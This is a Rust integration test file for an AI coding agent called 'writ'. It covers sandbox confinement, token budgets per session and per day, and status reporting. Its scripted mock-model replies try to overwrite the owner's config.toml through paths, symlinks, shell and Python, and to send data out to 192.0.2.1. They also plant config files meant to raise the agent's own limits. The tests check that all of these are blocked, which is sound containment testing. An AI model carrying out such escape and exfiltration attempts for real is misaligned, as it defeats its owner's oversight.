@@ -1,0 +1,424 @@
+//! What the self-coding agent's design asks for and whole commands show: one home, budgets, status.
+
+use std::collections::BTreeSet;
+use std::os::unix::fs::MetadataExt as _;
+use std::path::{Path, PathBuf};
+use std::process::{Output, Stdio};
+use std::sync::mpsc::sync_channel;
+use std::sync::{Arc, OnceLock};
+use std::time::{Duration, SystemTime, UNIX_EPOCH};
+
+use serde_json::{Value, json};
+use writ_testkit::model_server::{Fault, ParsedRequest, Reply};
+use writ_tools::def::AgentRole;
+use writ_tools::registry::{AllowList, Registry};
+use writ_types::error::Exit;
+
+use super::engine::{Engine, Link, stop_engine_of};
+use super::turns::{Bench, calls};
+use super::{Home, code, text};
+
+/// What every glibc system has; a binary needs nothing else.
+const BASE_LIBRARIES: [&str; 8] = [
+    "linux-vdso.so",
+    "ld-linux",
+    "libc.so",
+    "libm.so",
+    "libgcc_s.so",
+    "libdl.so",
+    "libpthread.so",
+    "librt.so",
+];
+
+/// Runs a copy of the binary with nothing around it: no `PATH`, no daemon.
+#[expect(clippy::disallowed_types, reason = "the test starts the binary that it tests")]
+fn bare(exe: &Path, home: &Home, args: &[&str], more: &[(&str, &str)]) -> Output {
+    std::process::Command::new(exe)
+        .args(args)
+        .env_clear()
+        .env("HOME", home.dir.path())
+        .env("WRIT_HOME", home.root())
+        .env("DOCKER_HOST", "unix:///nonexistent/docker.sock")
+        .envs(home.env.iter().map(|(name, value)| (name, value)))
+        .envs(more.iter().copied())
+        .current_dir(home.dir.path())
+        .stdin(Stdio::null())
+        .output()
+        .expect("the copy starts")
+}
+
+/// The nearest to the old design's direct mode is the sandbox that needs no daemon (design 3.6).
+///
+/// Rows: WIN-006 (on Linux) WIN-007
+#[test]
+fn needs_userns_the_binary_alone_is_enough() {
+    let script = calls(vec![("shell_exec", json!({"argv": ["echo", "from inside"]}))], "Done.");
+    let bench = Bench::new("openai", script);
+    let mut home = Home::new();
+    home.env.extend(bench.home.env.iter().skip(1).cloned());
+    let exe = home.dir.path().join("copied");
+    std::fs::copy(env!("CARGO_BIN_EXE_writ"), &exe).expect("copied");
+    let traced = text(&bare(&exe, &home, &["--version"], &[("LD_TRACE_LOADED_OBJECTS", "1")]));
+    // A static binary ignores the variable and says its version.
+    for line in traced.lines().filter(|line| !line.starts_with("writ ")) {
+        let name = line.split_whitespace().next().unwrap_or_default().rsplit('/').next().unwrap_or_default();
+        assert!(BASE_LIBRARIES.iter().any(|base| name.starts_with(base)), "{line}");
+    }
+    let made = bare(&exe, &home, &["init", "--yes"], &[]);
+    assert_eq!(code(&made), 0, "{}", text(&made));
+    std::fs::create_dir(home.dir.path().join("project")).expect("made");
+    let said = bare(&exe, &home, &["chat", "-m", "work", "--project", "project"], &[]);
+    assert_eq!((code(&said), text(&said).contains("Done.")), (0, true), "{}", text(&said));
+    let last = bench.requests().pop().expect("a request");
+    assert!(last.contains("from inside"), "a program ran without Docker: {last}");
+    let status = bare(&exe, &home, &["status"], &[]);
+    assert!(code(&status) == 0 && text(&status).contains("running since"), "{}", text(&status));
+}
+
+/// Rows: WIN-013 (what `init` and a turn make, without `docs/` and `health.json`; nothing else in HOME)
+#[test]
+fn needs_git_a_home_holds_what_is_documented_and_nothing_is_written_beside_it() {
+    let bench = Bench::new("openai", calls(Vec::new(), "Yes."));
+    assert_eq!(code(&bench.chat("hello", &[])), 0);
+    let names = |folder: &Path| -> BTreeSet<String> {
+        let entries = std::fs::read_dir(folder).expect("reads");
+        entries.map(|entry| entry.expect("an entry").file_name().to_string_lossy().into_owned()).collect()
+    };
+    let expected = [
+        "RULES.md",
+        "agent",
+        "agent.git",
+        "backups",
+        "config.toml",
+        "data",
+        "generated",
+        "keys",
+        "logs",
+        "policies",
+        "runtime",
+        "workspace",
+    ];
+    assert_eq!(names(&bench.home.root()), BTreeSet::from(expected.map(str::to_owned)));
+    assert_eq!(names(bench.home.dir.path()), BTreeSet::from(["home", "project"].map(str::to_owned)));
+}
+
+/// Every tool that takes a path is led to the owner's files, by name and through a link.
+fn intruder(target: Arc<OnceLock<PathBuf>>) -> impl FnMut(&ParsedRequest) -> Reply {
+    move |request| {
+        let path = target.get().expect("set").display().to_string();
+        let script = format!("echo x >> '{path}'; ln -s '{path}' own; echo x >> own; cp /dev/null '{path}'");
+        let python = format!("open({path:?}, 'a').write('x')");
+        let list = [
+            ("file_write", json!({"path": path, "content": "x"})),
+            ("file_write", json!({"path": "link", "content": "x"})),
+            ("file_patch", json!({"path": path, "old": "#", "new": "x"})),
+            ("shell_exec", json!({"argv": ["sh", "-c", script]})),
+            ("python_exec", json!({"script": python})),
+            ("shell_exec", json!({"argv": ["sh", "-c", "echo x >> link"]})),
+            ("file_write", json!({"path": "own", "content": "x"})),
+        ];
+        match list.get(request.results().count()) {
+            Some((tool, arguments)) => Reply::call(tool, arguments.clone()),
+            None => Reply::text("I cannot."),
+        }
+    }
+}
+
+/// Rows: WIN-015 (`config.toml`; there is no `agent.toml` yet) WIN-024 (that it is never written)
+#[test]
+fn needs_userns_neither_a_tool_nor_the_engine_writes_the_owners_files() {
+    let target = Arc::new(OnceLock::new());
+    let bench = Bench::new("anthropic", intruder(Arc::clone(&target)));
+    let config = bench.home.root().join("config.toml");
+    target.set(config.clone()).expect("once");
+    std::os::unix::fs::symlink(&config, bench.project().join("link")).expect("linked");
+    let own = [config, bench.home.root().join("RULES.md")];
+    let state = || {
+        own.clone().map(|path| {
+            let meta = path.metadata().expect("there");
+            (std::fs::read(&path).expect("reads"), meta.ino(), meta.mtime(), meta.mtime_nsec())
+        })
+    };
+    let before = state();
+    let done = bench.chat("do it", &["--write"]);
+    assert!(text(&done).contains("I cannot."), "{}", text(&done));
+    assert_eq!(bench.requests().len(), 8, "every attempt was made");
+    assert_eq!(code(&bench.home.run(&["memory", "add", "a fact"])), 0);
+    stop_engine_of(&bench.home);
+    assert_eq!(code(&bench.home.run(&["init", "--yes"])), 0);
+    assert!(state() == before, "they are as they were, and were not even rewritten");
+}
+
+/// Rows: WIN-025 (that the agent's own files raise nothing)
+#[test]
+fn what_stands_in_the_agents_folder_raises_no_limit() {
+    let home = Home::ready();
+    let raised = "[budget]\nmax_tokens_per_day = 9000000000\n[sandbox]\nread_only = [\"/\"]\n";
+    for name in ["agent/agent.toml", "agent/config.toml", "agent.toml"] {
+        std::fs::write(home.root().join(name), raised).expect("written");
+    }
+    let shown = home.json(&["config", "show"]);
+    assert_eq!(shown["budget.max_tokens_per_day"], json!({"value": 5_000_000, "origin": "default"}));
+    assert_eq!(shown["sandbox.read_only"], json!({"value": [], "origin": "default"}));
+}
+
+/// Rows: WIN-003 (a fresh install offers the built-in tools and no other; there are as many as there are)
+#[test]
+fn a_fresh_install_offers_the_built_in_tools_and_no_other() {
+    let bench = Bench::new("openai", calls(Vec::new(), "Yes."));
+    assert_eq!(code(&bench.chat("hello", &[])), 0);
+    let sent = bench.server.recorded().pop().expect("a request").body;
+    let tools = sent["tools"].as_array().expect("tools");
+    let offered: Vec<&str> = tools.iter().filter_map(|tool| tool["function"]["name"].as_str()).collect();
+    let specs = Registry::core().specs(AgentRole::Executor, &AllowList::All);
+    assert_eq!(offered, specs.iter().map(|spec| spec.name.as_str()).collect::<Vec<_>>());
+    assert!(offered.len() >= 9, "{offered:?}");
+}
+
+/// Rows: WIN-005 (writing, running and deleting inside asks nothing; the way out is closed)
+#[test]
+fn needs_userns_what_stays_inside_asks_nothing() {
+    let out = "import urllib.request as r\nr.urlopen('http://192.0.2.1/', data=b'x', timeout=2)";
+    let bench = Bench::new(
+        "anthropic",
+        calls(
+            vec![
+                ("file_write", json!({"path": "made.py", "content": "print('made here')\n"})),
+                ("shell_exec", json!({"argv": ["python3", "made.py"]})),
+                ("file_patch", json!({"path": "made.py", "old": "here", "new": "anew"})),
+                ("shell_exec", json!({"argv": ["python3", "made.py"]})),
+                ("python_exec", json!({"script": out})),
+                ("memory_store", json!({"text": "It works."})),
+                ("memory_search", json!({"query": "works"})),
+                ("shell_exec", json!({"argv": ["rm", "made.py"]})),
+            ],
+            "Done.",
+        ),
+    );
+    let done = bench.chat("try things", &[]);
+    assert_eq!(code(&done), 0, "nothing is left to ask about: {}", text(&done));
+    assert_eq!(bench.count("asked") + bench.count("denied"), 0);
+    let last = bench.requests().pop().expect("a request");
+    for seen in ["made here", "made anew", "URLError"] {
+        assert!(last.contains(seen), "{seen}: {last}");
+    }
+}
+
+/// Docker is not chosen by itself and nothing runs without confinement (design 3.6): the nearest to a choice
+/// at the start is the ladder of our own sandbox.
+///
+/// Rows: WIN-146
+#[test]
+fn needs_userns_how_programs_are_confined_is_found_at_start_and_said() {
+    let mut home = Home::ready();
+    let rungs = |home: &Home| -> Vec<Value> {
+        let output = home.run(&["audit", "search", "--event", "sandbox_ready", "--json"]);
+        let lines = String::from_utf8(output.stdout).expect("UTF-8");
+        lines
+            .lines()
+            .map(|line| serde_json::from_str::<Value>(line).expect("a row")["payload"].clone())
+            .collect()
+    };
+    assert_eq!(home.json(&["sandbox", "status"])["rung"], "full");
+    assert_eq!(Engine::start(&home, &[]).expect("ready").stop().code, Some(0));
+    let first = rungs(&home);
+    assert_eq!((first.len(), &first[0]["rung"]), (1, &json!(1)));
+    home.env.push(("WRIT_SANDBOX__FORBID_USER_NAMESPACES".to_owned(), "true".to_owned()));
+    assert_eq!(home.json(&["sandbox", "status"])["rung"], "reduced");
+    assert_eq!(Engine::start(&home, &[]).expect("ready").stop().code, Some(0));
+    let weaker = rungs(&home).into_iter().find(|rung| rung["rung"] == json!(2)).expect("written down");
+    assert!(weaker["reduced"].as_str().is_some_and(|why| !why.is_empty()), "{weaker}");
+    let report = home.json(&["doctor"]);
+    let checks = report["checks"].as_array().expect("checks");
+    assert!(checks.iter().any(|check| check["name"] == "sandbox" && check["verdict"] == "warn"), "{report}");
+    std::fs::write(home.root().join("config.toml"), "[sandbox]\nmode = \"docker\"\n").expect("written");
+    let checked = home.run(&["config", "check"]);
+    assert_eq!(code(&checked), 3);
+    assert!(text(&checked).contains("unknown key 'sandbox.mode'"), "{}", text(&checked));
+}
+
+/// Rows: WIN-011
+#[test]
+fn a_local_model_for_the_main_loop_is_said_to_be_not_recommended() {
+    let told = |home: &Home| {
+        let engine = Engine::start(home, &[]).expect("ready");
+        let (status, shown) = (home.json(&["status"]), text(&home.run(&["status"])));
+        assert_eq!(engine.stop().code, Some(0), "it starts all the same");
+        let log = std::fs::read_to_string(home.root().join("logs/writ.jsonl")).expect("logged");
+        [status["advice"].to_string(), shown, log].map(|text| text.contains("not recommended"))
+    };
+    let local = |home: Home| {
+        home.with("WRIT_PROVIDERS__LOCAL__KIND", "openai")
+            .with("WRIT_PROVIDERS__LOCAL__BASE_URL", "http://127.0.0.1:9/v1/")
+    };
+    let home = local(Home::ready()).with("WRIT_MODELS__DEFAULT", "local/qwen3:8b");
+    assert_eq!(told(&home), [true; 3]);
+    let home = local(Home::ready())
+        .with("WRIT_MODELS__DEFAULT", "anthropic/claude-sonnet-4-6")
+        .with("WRIT_MODELS__ROLES__OBSERVER", "local/qwen3:8b");
+    assert_eq!(told(&home), [false; 3], "for other work a local model is fine");
+}
+
+/// A reply that asks for something that is not there: the turn goes on with another call.
+fn goes_on(input: u64, output: u64) -> Reply {
+    Reply::call("no_such_tool", json!({})).usage(input, output)
+}
+
+/// Rows: WIN-355
+/// Rows: SCL-007 (fifty sessions at once, and counters that stay exact)
+#[test]
+fn fifty_sessions_pass_the_days_limit_by_no_more_than_their_calls_under_way() {
+    const SESSIONS: u64 = 50;
+    const PER_CALL: u64 = 40_000;
+    const LIMIT: u64 = 2_000_000;
+    let mut bench = Bench::new("openai", |_: &ParsedRequest| Reply::text("Yes.").usage(30_000, 10_000));
+    bench.home.env.push(("WRIT_BUDGET__MAX_TOKENS_PER_DAY".to_owned(), LIMIT.to_string()));
+    let engine = Engine::start(&bench.home, &[]).expect("ready");
+    let talk = |n: u64| {
+        let mut link = Link::open(&bench.home).expect("connects");
+        link.join(None, None).expect("joined");
+        let ends = (0..3).map(|m| link.ask("hello", &format!("{n}-{m}")).expect("answered").exit);
+        ends.collect::<Vec<_>>()
+    };
+    let ends: Vec<Exit> = std::thread::scope(|scope| {
+        let talks: Vec<_> = (0..SESSIONS).map(|n| scope.spawn(move || talk(n))).collect();
+        talks.into_iter().flat_map(|talk| talk.join().expect("talks")).collect()
+    });
+    let recorded = || u64::try_from(bench.server.recorded().len()).expect("a count");
+    let (calls, done) = (recorded(), ends.iter().filter(|exit| **exit == Exit::Done));
+    assert_eq!(u64::try_from(done.count()).expect("a count"), calls);
+    assert!(ends.iter().all(|exit| [Exit::Done, Exit::Budget].contains(exit)), "{ends:?}");
+    assert!(calls * PER_CALL <= LIMIT + SESSIONS * PER_CALL, "{calls} calls");
+    assert!(ends.contains(&Exit::Budget), "some were refused");
+    let mut link = Link::open(&bench.home).expect("connects");
+    let tokens = |link: &mut Link| {
+        link.call("status", json!({}))
+            .and_then(|status| status["today"]["tokens"].as_u64())
+            .expect("a number")
+    };
+    assert_eq!(tokens(&mut link), calls * PER_CALL, "no call is forgotten");
+    link.join(None, None).expect("joined");
+    let more = (0..SESSIONS)
+        .take_while(|n| link.ask("and now?", &n.to_string()).expect("answered").exit == Exit::Done);
+    let more = u64::try_from(more.count()).expect("a count");
+    assert!(more < SESSIONS && recorded() == calls + more, "a call that is refused is not sent");
+    assert!(tokens(&mut link) >= LIMIT);
+    assert_eq!(engine.stop().code, Some(0));
+}
+
+/// Rows: WIN-361 (by a person's message: nothing is scheduled yet)
+#[test]
+fn a_new_message_renews_the_session_and_goes_on_with_its_history() {
+    let mut bench = Bench::new("anthropic", |request: &ParsedRequest| match request.last_user_text() {
+        "and now?" => Reply::text("Now it is done.").usage(6, 4),
+        _ => goes_on(90, 20),
+    });
+    bench.home.env.push(("WRIT_BUDGET__MAX_TOKENS_PER_SESSION".to_owned(), "100".to_owned()));
+    let paused = bench.chat("the heron job", &[]);
+    assert_eq!(code(&paused), 6, "{}", text(&paused));
+    let status = bench.home.json(&["status"]);
+    assert_eq!((&status["session"]["tokens"], &status["session"]["paused"]), (&json!(110), &json!(true)));
+    let shown = text(&bench.home.run(&["status"]));
+    assert!(shown.contains("110 of 100 tokens (110%), paused: send a message to go on"), "{shown}");
+    let renewed = bench.chat("and now?", &[]);
+    assert_eq!((code(&renewed), text(&renewed).contains("Now it is done.")), (0, true), "{}", text(&renewed));
+    let last = bench.requests().pop().expect("a request");
+    assert!(last.contains("the heron job") && last.contains("no_such_tool"), "the whole history: {last}");
+    let status = bench.home.json(&["status"]);
+    assert_eq!((&status["session"]["tokens"], &status["session"]["paused"]), (&json!(10), &json!(false)));
+    assert_eq!(status["today"]["tokens"], json!(120), "the day forgets nothing");
+}
+
+/// Waits until the last minute of a UTC day is over, in which no minute is left for the next one to begin at.
+fn not_the_last_minute() {
+    let seconds = SystemTime::now().duration_since(UNIX_EPOCH).expect("a clock").as_secs() % 86_400;
+    if seconds >= 86_400 - 90 {
+        let (_kept, never) = sync_channel::<()>(1);
+        let _waited = never.recv_timeout(Duration::from_secs(86_400 - seconds + 1));
+    }
+}
+
+/// A check of the budget says one of four things, each seen here: fine, a warning, the session is used up, the
+/// day is used up. The day's next beginning is brought about by moving it.
+///
+/// Rows: WIN-362 WIN-363 WIN-365
+#[test]
+fn a_day_that_is_used_up_stops_every_session_until_the_next_one() {
+    not_the_last_minute();
+    let mut bench = Bench::new("openai", |request: &ParsedRequest| match request.last_user_text() {
+        "one" => Reply::text("Yes.").usage(500, 250),
+        _ => goes_on(600, 400),
+    });
+    bench.home.env.push(("WRIT_BUDGET__MAX_TOKENS_PER_SESSION".to_owned(), "1000".to_owned()));
+    bench.home.env.push(("WRIT_BUDGET__MAX_TOKENS_PER_DAY".to_owned(), "2750".to_owned()));
+    assert_eq!(code(&bench.chat("one", &[])), 0, "fine");
+    let second = bench.chat("two", &[]);
+    assert!(code(&second) == 6 && text(&second).contains("max_tokens_per_session"), "{}", text(&second));
+    assert!(bench.requests()[1].contains("[System: Budget at 70%."), "a warning: {}", bench.requests()[1]);
+    let third = bench.chat("three", &[]);
+    assert!(code(&third) == 6 && text(&third).contains("max_tokens_per_day"), "{}", text(&third));
+    let before = bench.requests().len();
+    for flags in [&[][..], &["--new"]] {
+        let told = bench.chat("four", flags);
+        assert_eq!(code(&told), 6, "{}", text(&told));
+        let said = text(&told);
+        assert!(said.contains("tomorrow") && said.contains("[budget].max_tokens_per_day"), "{said}");
+        assert!(said.len() < 1_000 && !said.contains("Yes."), "a short reply and nothing else: {said}");
+    }
+    assert_eq!(bench.requests().len(), before, "no model is asked by any session");
+    let sessions = bench.home.json(&["status"]);
+    assert_eq!(sessions["today"]["paused"], json!(true));
+    stop_engine_of(&bench.home);
+    bench.home.env.push(("WRIT_BUDGET__DAY_STARTS_AT_MINUTE".to_owned(), "1439".to_owned()));
+    let next_day = bench.chat("one", &[]);
+    assert_eq!((code(&next_day), text(&next_day).contains("Yes.")), (0, true), "{}", text(&next_day));
+    assert_eq!(bench.home.json(&["status"])["today"]["tokens"], json!(750));
+}
+
+/// Rows: WIN-364
+#[test]
+fn the_sessions_limit_ends_a_loop_and_the_days_limit_all_of_them() {
+    // Half a million tokens each: one call of a loop, and the session is used up.
+    let bench = Bench::new("openai", |_: &ParsedRequest| goes_on(400_000, 100_000));
+    for n in 1..=11 {
+        // Some messages renew the session before them.
+        let flags: &[&str] = if n % 2 == 1 { &["--new"] } else { &[] };
+        let ended = bench.chat(&format!("loop {n}"), flags);
+        assert_eq!(code(&ended), 6, "{n}: {}", text(&ended));
+        let limit = if n < 10 { "[budget].max_tokens_per_session" } else { "[budget].max_tokens_per_day" };
+        assert!(text(&ended).contains(limit), "{n}: {}", text(&ended));
+        assert_eq!(bench.server.recorded().len(), n.min(10), "{n}: one call each, and none for the eleventh");
+    }
+    assert_eq!(bench.home.json(&["status"])["today"]["tokens"], json!(5_000_000));
+}
+
+/// Rows: WIN-366 (every call that this version makes)
+#[test]
+fn the_days_counter_is_the_sum_of_all_calls_also_of_failed_ones() {
+    let mut replies = [
+        Reply::text("First of all.").usage(10, 5),
+        Reply::status(500),
+        goes_on(100, 50),
+        Reply::text("one two three four five six").usage(1_000, 500).fault(Fault::CutAfter(4)),
+        Reply::text("Again.").usage(10_000, 5_000),
+    ]
+    .into_iter();
+    let mut bench = Bench::new("anthropic", move |_: &ParsedRequest| {
+        replies.next().unwrap_or_else(|| Reply::text("No more.").usage(100_000, 50_000))
+    });
+    for (name, value) in [("MAX_TRIES", "2"), ("BACKOFF_BASE_MS", "1")] {
+        bench.home.env.push((format!("WRIT_MODELS__{name}"), value.to_owned()));
+    }
+    for message in ["one", "two", "three"] {
+        let _any_end = bench.chat(message, &["--new"]);
+    }
+    let called = bench.events("model_called");
+    assert_eq!(called.len(), bench.server.recorded().len(), "each attempt is counted");
+    let tokens = |row: &Value, name: &str| row["payload"]["usage"][name].as_u64().unwrap_or_default();
+    let sum: u64 = called.iter().map(|row| tokens(row, "input") + tokens(row, "output")).sum();
+    assert!(sum > 165_000, "{called:?}");
+    let status = bench.home.json(&["status"]);
+    assert_eq!(status["today"]["tokens"], json!(sum));
+    assert_eq!(status["today"]["cost_micro_usd"], Value::Null, "nobody knows what this model costs");
+    assert!(text(&bench.home.run(&["status"])).contains("cost       n/a"));
+}
